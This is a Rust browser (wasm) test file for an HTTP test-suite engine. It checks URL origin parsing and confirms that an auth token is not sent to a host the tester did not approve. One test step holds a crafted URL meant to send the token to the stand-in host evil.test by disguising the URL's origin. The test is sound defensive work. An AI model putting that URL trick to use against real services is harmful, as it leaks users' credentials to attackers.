//! Origins in the browser, where the engine asks the browser's own URL parser (the one
//! `fetch` uses): the same answers as the native engine for the same cases
//! (crates/engine/tests/data/origins.json), and a request that would carry a secret to an
//! origin the tester did not approve is not sent.
#![cfg(target_arch = "wasm32")]
// A failed expectation in a test should stop it loudly.
#![allow(clippy::unwrap_used)]

use std::cell::RefCell;

use suite_engine::{
    load_suite, origin_of, Clock, Environment, FailureKind, HostPolicy, HttpRequest, HttpResponse,
    RequestFailure, RunOptions, Runner, StepOutcome, Transport,
};
use wasm_bindgen_test::*;

wasm_bindgen_test_configure!(run_in_browser);

#[wasm_bindgen_test]
fn origins_match_the_native_engine() {
    let cases: Vec<(String, Option<String>)> =
        serde_json::from_str(include_str!("../crates/engine/tests/data/origins.json")).unwrap();
    for (url, expected) in cases {
        assert_eq!(origin_of(&url), expected, "{url:?}");
    }
}

/// Answers `200 {}` and remembers the URLs it was asked for.
#[derive(Default)]
struct Recording {
    sent: RefCell<Vec<String>>,
}

impl Transport for Recording {
    async fn send(&self, request: &HttpRequest) -> Result<HttpResponse, RequestFailure> {
        self.sent.borrow_mut().push(request.url.clone());
        Ok(HttpResponse {
            status: 200,
            body: b"{}".to_vec(),
            ..HttpResponse::default()
        })
    }
}

struct Still;

impl Clock for Still {
    fn now_ms(&self) -> f64 {
        0.0
    }
    async fn sleep(&self, _ms: f64) {}
}

#[wasm_bindgen_test]
async fn a_secret_for_a_host_not_approved_is_not_sent() {
    let suite = load_suite(
        r#"{"steps": [
            {"step_type": "request", "url": "{{SCIMBaseURL}}/Users", "headers": {"Authorization": ["{{auth}}"]}},
            {"step_type": "request", "url": "http://evil.test#@127.0.0.1:8081/?t={{auth}}"}]}"#,
    )
    .unwrap();
    let env = Environment::with_variables([
        ("SCIMBaseURL", "http://127.0.0.1:8081/scim/v2"),
        ("auth", "Bearer browser-test-token"),
    ]);
    let options = RunOptions {
        host_policy: HostPolicy::only(["http://127.0.0.1:8081"]),
        ..RunOptions::default()
    };
    let transport = Recording::default();
    let result = Runner::new(&transport, &Still)
        .run(&suite, &env, &options)
        .await;
    assert_eq!(result.steps[0].outcome, StepOutcome::Pass);
    assert_eq!(result.steps[1].outcome, StepOutcome::Error);
    let failure = result.steps[1].failure.as_ref().unwrap();
    assert_eq!(failure.kind, FailureKind::NotApproved);
    assert_eq!(
        failure.message,
        "not sent: this request would send auth to http://evil.test, a host you did not approve"
    );
    assert_eq!(
        *transport.sent.borrow(),
        ["http://127.0.0.1:8081/scim/v2/Users"]
    );
}
